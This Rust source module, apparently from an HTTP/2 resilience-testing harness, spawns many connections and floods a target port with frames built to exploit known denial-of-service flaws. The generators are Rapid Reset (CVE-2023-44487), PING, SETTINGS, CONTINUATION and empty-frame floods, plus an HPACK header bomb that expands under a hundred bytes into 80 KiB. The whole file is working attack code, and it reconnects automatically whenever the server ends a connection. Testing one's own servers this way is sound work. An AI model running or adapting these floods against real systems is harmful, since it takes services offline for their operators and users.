//! Floods of frames (RFC 9113, section 10.5).

use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncWriteExt as _, sink};
use tokio::task::JoinSet;
use tokio::time::{Instant, interval, timeout_at};

use super::Target;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, opening, request,
};
use super::many::{connect, say};

/// How often each connection sends.
const TICK: Duration = Duration::from_millis(5);

/// Sends so many units a second over all connections together, and connects again where one is ended.
pub(super) async fn flood(
    target: Target,
    per_second: usize,
    unit: fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let ended = Arc::new(AtomicUsize::new(0));
    let sent = Arc::new(AtomicUsize::new(0));
    let each = per_second / target.connections.max(1);
    let mut attackers = JoinSet::new();
    for number in 0..target.connections {
        let (ended, sent) = (Arc::clone(&ended), Arc::clone(&sent));
        attackers.spawn(async move {
            while Instant::now() < target.until {
                // The end of a connection is what is hoped for.
                drop(timeout_at(target.until, one(target.port, number, each, unit, &sent)).await);
                ended.fetch_add(1, Ordering::Relaxed);
            }
        });
    }
    say("ready");
    while attackers.join_next().await.is_some() {}
    let ended = ended
        .load(Ordering::Relaxed)
        .saturating_sub(target.connections);
    say(&format!(
        "{} units, {ended} connections ended",
        sent.load(Ordering::Relaxed)
    ));
    Ok(())
}

async fn one(
    port: u16,
    number: usize,
    per_second: usize,
    unit: fn(u32) -> Vec<u8>,
    sent: &AtomicUsize,
) -> io::Result<()> {
    let mut pace = interval(TICK);
    pace.tick().await;
    let mut stream = connect(port, number, None).await?;
    let (mut reads, mut writes) = stream.split();
    let reading = async {
        let mut nowhere = sink();
        tokio::io::copy(&mut reads, &mut nowhere).await?;
        Err(io::Error::from(io::ErrorKind::UnexpectedEof))
    };
    let writing = async {
        writes.write_all(&opening()).await?;
        let (begun, mut counted) = (Instant::now(), 0_u32..);
        loop {
            pace.tick().await;
            let due = begun.elapsed().as_millis() * per_second as u128 / 1000 + 1;
            let due = usize::try_from(due).unwrap_or(usize::MAX);
            let units = due.saturating_sub(usize::try_from(counted.start).unwrap_or(0));
            let bytes: Vec<_> = counted.by_ref().take(units).map(unit).collect();
            writes.write_all(&bytes.concat()).await?;
            sent.fetch_add(units, Ordering::Relaxed);
        }
    };
    tokio::select! {
        end = reading => end,
        end = writing => end,
    }
}

/// The stream of a unit.
const fn stream(unit: u32) -> u32 {
    2 * unit + 1
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(unit: u32) -> Vec<u8> {
    let flags = END_HEADERS | END_STREAM;
    let asked = frame(HEADERS, flags, stream(unit), &request("GET", "/hello"));
    [asked, frame(RST_STREAM, 0, stream(unit), &[0, 0, 0, 8])].concat()
}

/// CVE-2019-9512.
pub(super) fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[0; 8])
}

/// CVE-2019-9515.
pub(super) fn settings(unit: u32) -> Vec<u8> {
    let [.., low] = unit.to_be_bytes();
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, low])
}

/// CVE-2024-27316: a head that does not end.
pub(super) fn continuation(unit: u32) -> Vec<u8> {
    if unit == 0 {
        return frame(HEADERS, END_STREAM, 1, &request("GET", "/hello"));
    }
    frame(CONTINUATION, 0, 1, &field("x", &"y".repeat(100)).repeat(8))
}

/// CVE-2019-9518: frames that do nothing, to an upload that does not end.
pub(super) fn empty(unit: u32) -> Vec<u8> {
    let begun = match unit {
        0 => frame(HEADERS, END_HEADERS, 1, &request("POST", "/upload")),
        _ => Vec::new(),
    };
    let window = frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
    [begun, frame(DATA, 0, 1, &[]), window].concat()
}

/// A field remembered once and named by a byte each after that: a head of 80 KiB in less than a hundred bytes.
pub(super) fn bomb(unit: u32) -> Vec<u8> {
    let mut block = request("GET", "/hello");
    if unit == 0 {
        // A name of one byte and a value of 3,900 (RFC 7541, sections 5.1 and 6.2.1).
        block.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
        block.extend([b'y'; 3900]);
    }
    block.extend([0xbe; 20]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(unit), &block)
}
